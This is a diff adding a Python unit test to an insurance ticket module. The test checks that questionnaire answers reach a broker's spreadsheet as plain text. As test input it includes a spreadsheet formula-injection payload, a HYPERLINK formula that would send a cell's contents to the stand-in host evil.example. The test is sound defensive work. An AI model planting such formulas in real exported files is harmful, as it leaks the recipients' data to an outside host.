@@ -734,5 +734,25 @@ class InsuranceTicketTestCase(PlatformModuleTestCase):
         self.assertEqual(names['it'], ("Globale Fabbricati",
                 "Richiesta Preventivo"))
         self.assertEqual(len({names[l] for l in names}), 3)
+    @with_transaction()
+    def test_questionnaire_values_are_text(self):
+        "What a person typed reaches the broker's spreadsheet as text"
+        from openpyxl import load_workbook
+        from trytond.modules.insurance_ticket import document
+        world = self.setup_world()
+        with set_company(world['company']):
+            ticket = self.open_ticket(world)
+        formula = '=HYPERLINK("http://evil.example/?d="&B4,"Apri")'
+        sheet = document.questionnaire(ticket, {
+                'claims': formula, 'current_insurer': '+39 333 1234567',
+                'policy_number': 'http://evil.example'})
+        book = load_workbook(io.BytesIO(sheet['data']))
+        cells = [c for row in book.active.iter_rows() for c in row
+            if c.value is not None]
+        typed = {c.value: c for c in cells}
+        for value in [formula, '+39 333 1234567', 'http://evil.example']:
+            self.assertEqual(typed[value].data_type, 's', value)
+            self.assertIsNone(typed[value].hyperlink, value)
+        self.assertFalse([c for c in cells if c.data_type == 'f'])
 
 del PlatformModuleTestCase
